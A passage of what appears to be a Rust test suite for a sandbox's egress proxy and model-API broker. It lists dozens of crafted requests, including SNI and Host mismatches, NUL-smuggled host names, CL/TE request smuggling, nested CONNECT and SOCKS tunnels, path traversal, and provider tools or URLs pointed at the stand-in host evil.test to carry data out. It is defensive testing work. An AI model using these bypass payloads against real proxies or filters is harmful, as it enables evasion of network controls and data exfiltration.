            "an outer ClientHello, as encrypted ones have",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello public-name.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-subdomain",
            "a ClientHello for a sub-domain",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello sub.allowed.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-sibling",
            "a ClientHello for another name of the suffix",
            &[
                "say",
                "8788",
                "CONNECT a.wild.test:443 HTTP/1.1\\r\\nHost: a.wild.test:443\\r\\n\\r\\n",
                "@hello b.wild.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-address",
            "a ClientHello for an address",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello 20.30.40.66 {m}",
            ],
        )
        .proxied(),
        unheard(
            "sni-nul",
            "a ClientHello with a NUL",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello allowed.test\\0evil.test {m}",
            ],
        )
        .proxied(),
        unheard(
            "plain-on-443",
            "plain bytes on 443",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "http-on-443",
            "plain HTTP on 443",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "GET /{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "ssh-on-443",
            "SSH on 443",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "SSH-2.0-{m}\\r\\n",
            ],
        )
        .proxied(),
        unheard(
            "sslv2-on-443",
            "a hello of SSL 2 on 443",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@sslv2 {m}",
            ],
        )
        .proxied(),
        unheard(
            "garbage-on-443",
            "a record that is none",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "\\x16\\x03\\x01\\x40\\x00{m}",
            ],
        )
        .proxied(),
        unheard(
            "before-connect",
            "bytes ahead of the answer",
            &[
                "say",
                "8788",
                "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n{m}",
            ],
        )
        .proxied(),
    ],
};

/// Plain HTTP, and requests hidden in it.
pub(super) const PLAIN: Group = Group {
    name: "proxy-http",
    cases: &[
    unheard("http-host-differs", "a Host header that names another", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-host-twice", "two Host headers", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-host-missing", "no Host header", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\n\\r\\n"]).proxied(),
    unheard("http-host-folded", "a folded Host header", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\n evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-absolute-denied", "an absolute URI of a denied host", &["say", "8788", "GET http://evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-absolute-userinfo", "userinfo in an absolute URI", &["say", "8788", "GET http://allowed.test@evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-absolute-https", "https without a tunnel", &["say", "8788", "GET https://evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-absolute-ftp", "another scheme", &["say", "8788", "GET ftp://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-origin-form", "a path alone, as if to a server", &["say", "8788", "GET /{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-second-request", "a second request to a denied host, at once", &["say", "8788", "GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-second-host", "a second request with another Host", &["say", "8788", "GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://allowed.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-second-later", "a second request on the same connection", &["say", "8788", "GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n", "GET http://evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-two-lengths", "Content-Length and Transfer-Encoding", &["say", "8788", "POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-length-twice", "two lengths", &["say", "8788", "POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\nGET /{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-chunked-odd", "a coding that nobody knows", &["say", "8788", "POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /{m} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-chunk-size", "a size of a chunk that is none", &["say", "8788", "POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0x5\\r\\n{m}\\r\\n0\\r\\n\\r\\n"]).proxied(),
    unheard("http-bare-lf", "lines that end in LF alone", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\nHost: evil.test\\n\\n\\r\\n\\r\\n"]).proxied(),
    unheard("http-bare-cr", "lines that end in CR alone", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\rHost: evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-space-in-name", "a blank before a colon", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: allowed.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-nul-in-header", "a NUL in Host", &["say", "8788", "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\0evil.test\\r\\n\\r\\n"]).proxied(),
    unheard("http-body-of-connect", "a tunnel with a body", &["say", "8788", "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\nContent-Length: 40\\r\\n\\r\\n{m}"]).proxied(),
    unheard("http2-preface", "HTTP/2 with the proxy", &["say", "8788", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n{m}"]).proxied().impossible("the careless proxy speaks no HTTP/2 either"),
    unheard("http-websocket", "a change to WebSocket", &["say", "8788", "GET http://allowed.test/upgrade HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n{m}"]).proxied(),
    unheard("http-upgrade-h2c", "a change to HTTP/2", &["say", "8788", "GET http://allowed.test/upgrade HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\nPRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n{m}"]).proxied(),
    unheard("http-upgrade-other", "a change to something else", &["say", "8788", "GET http://allowed.test/upgrade HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: upgrade\\r\\nUpgrade: TLS/1.0\\r\\n\\r\\n{m}"]).proxied(),
    unheard("http-redirect", "where an allowed host sends to", &["redirect", "http://allowed.test/redirect", "{m}"]).proxied(),
    unheard("http-trace", "TRACE", &["say", "8788", "TRACE http://evil.test/{m} HTTP/1.1\\r\\nHost: evil.test\\r\\nMax-Forwards: 0\\r\\n\\r\\n"]).proxied(),
    ],
};

/// Other protocols, and proxies behind the proxy.
pub(super) const NESTED: Group = Group {
    name: "proxy-nested",
    cases: &[
        unheard("socks4", "SOCKS 4", &["socks", "4", "evil.test", "{m}"]).proxied(),
        unheard("socks4a", "SOCKS 4a", &["socks", "4a", "evil.test", "{m}"]).proxied(),
        unheard("socks5", "SOCKS 5", &["socks", "5", "evil.test", "{m}"]).proxied(),
        unheard(
            "socks5-allowed",
            "SOCKS 5 to an allowed host",
            &["socks", "5", "allowed.test", "{m}"],
        )
        .proxied(),
        unheard(
            "socks4a-nul",
            "SOCKS with a NUL in the host",
            &["socks", "4a", "evil.test\\0allowed.test", "{m}"],
        )
        .proxied(),
        unheard(
            "socks5-nul",
            "SOCKS 5 with a NUL in the host",
            &["socks", "5", "evil.test\\0.wild.test", "{m}"],
        )
        .proxied(),
        unheard(
            "nested",
            "a proxy behind the proxy",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:3128 HTTP/1.1\\r\\nHost: allowed.test:3128\\r\\n\\r\\n",
                "CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n{m}",
            ],
        )
        .proxied(),
        unheard(
            "nested-443",
            "a proxy behind the proxy, on 443",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n{m}",
            ],
        )
        .proxied(),
        unheard(
            "to-itself",
            "the proxy through itself",
            &[
                "say",
                "8788",
                "CONNECT 127.0.0.1:8788 HTTP/1.1\\r\\nHost: 127.0.0.1:8788\\r\\n\\r\\n",
                "CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n",
                "{m}",
            ],
        )
        .proxied(),
        unheard(
            "to-broker",
            "the broker through the proxy",
            &[
                "say",
                "8788",
                "CONNECT localhost:8787 HTTP/1.1\\r\\nHost: localhost:8787\\r\\n\\r\\n",
                "POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 99\\r\\n\\r\\n{m}",
            ],
        )
        .proxied(),
        heard(
            "passes-tls",
            "an allowed tunnel: it must pass, or nothing above proves anything",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello allowed.test {m}",
            ],
        )
        .proxied(),
        heard(
            "passes-plain",
            "an allowed request must pass",
            &[
                "say",
                "8788",
                "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
            ],
        )
        .proxied(),
        heard(
            "passes-suffix",
            "a name below a suffix must pass",
            &[
                "say",
                "8788",
                "CONNECT x.wild.test:443 HTTP/1.1\\r\\nHost: x.wild.test:443\\r\\n\\r\\n",
                "@hello x.wild.test {m}",
            ],
        )
        .proxied(),
    ],
};

/// What is left when the proxy has gone.
pub(super) const GONE: Group = Group {
    name: "proxy-gone",
    cases: &[
        unheard(
            "gone-tunnel",
            "a tunnel to an allowed host, with the proxy gone",
            &[
                "say",
                "8788",
                "CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
                "@hello allowed.test {m}",
            ],
        )
        .proxied()
        .after_proxy(),
        unheard(
            "gone-plain",
            "a request to an allowed host, with the proxy gone",
            &[
                "say",
                "8788",
                "GET http://allowed.test/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
            ],
        )
        .proxied()
        .after_proxy(),
        unheard(
            "gone-denied",
            "a tunnel to a denied host, with the proxy gone",
            &[
                "say",
                "8788",
                "CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n",
                "{m}\\r\\n",
            ],
        )
        .proxied()
        .after_proxy(),
        unheard(
            "gone-direct",
            "an allowed host past the proxy, with the proxy gone",
            &["tcp", "20.30.40.50:443", "{m}"],
        )
        .proxied()
        .after_proxy(),
    ],
};

/// The model provider made to fetch, run or keep, and the broker made to go elsewhere.
pub(super) const BROKER: Group = Group {
    name: "broker",
    cases: &[
    unheard("broker-path", "a path that no job needs", &["say", "8787", "POST /v1/files HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"x\":\"{m}\"}"]),
    unheard("broker-path-dots", "a path with dots", &["say", "8787", "POST /v1/chat/completions/../../files HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-path-encoded", "a path with escaped dots", &["say", "8787", "POST /v1/%2e%2e/files HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-path-double", "a path that looks like a host", &["say", "8787", "POST //evil.test/v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-method", "a method that no job needs", &["say", "8787", "DELETE /v1/models/{m} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"]),
    unheard("broker-model", "another model", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"other\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-model-twice", "two models", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"model\":\"other\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-tool-mcp", "tools that the provider calls", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"tools\":[{\"type\":\"mcp\",\"server_label\":\"x\",\"server_url\":\"https://evil.test\"}]}"]),
    unheard("broker-tool-search", "search by the provider", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"tools\":[{\"type\":\"web_search\"}]}"]),
    unheard("broker-tool-code", "programs run at the provider", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"tools\":[{\"type\":\"code_interpreter\",\"container\":{\"type\":\"auto\"}}]}"]),
    unheard("broker-tool-files", "search in kept files", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"tools\":[{\"type\":\"file_search\",\"vector_store_ids\":[\"x\"]}]}"]),
    unheard("broker-tool-unknown", "a kind of tool that nobody knows", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"tools\":[{\"type\":\"teleport\"}]}"]),
    unheard("broker-image-url", "an image that the provider fetches", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://evil.test/{m}\"}}]}]}"]),
    unheard("broker-file-url", "a file that the provider fetches", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_file\",\"file_url\":\"https://evil.test/{m}\"}]}]}"]),
    unheard("broker-background", "an answer made later", &["say", "8787", "POST /v1/responses HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"input\":\"{m}\",\"background\":true}"]),
    unheard("broker-search-options", "search by an option", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"web_search_options\":{},\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    unheard("broker-no-json", "a body that is none", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{m}"]),
    unheard("broker-connect", "a tunnel through the broker", &["say", "8787", "CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n", "{m}"]),
    only_model("broker-absolute", "an absolute URL of another host: the provider alone hears it", &["say", "8787", "POST http://evil.test/v1/chat/completions HTTP/1.1\\r\\nHost: evil.test\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]).impossible("a careless broker is led elsewhere by nothing: that it leads to the provider is shown by the calls above"),
    only_model("broker-host", "a Host header of another: the provider alone hears it", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Forwarded-Host: evil.test\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]).impossible("a careless broker is led elsewhere by nothing: that it leads to the provider is shown by the calls above"),
    only_model("broker-query", "a query that names another: the provider alone hears it", &["say", "8787", "POST /v1/chat/completions?base=http://evil.test HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]).impossible("a careless broker is led elsewhere by nothing: that it leads to the provider is shown by the calls above"),
    heard("broker-passes", "an ordinary call must pass", &["say", "8787", "POST /v1/chat/completions HTTP/1.1\\r\\nHost: 127.0.0.1:8787\\r\\nContent-Type: application/json\\r\\nContent-Length: {length}\\r\\n\\r\\n{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"{m}\"}]}"]),
    ],
};
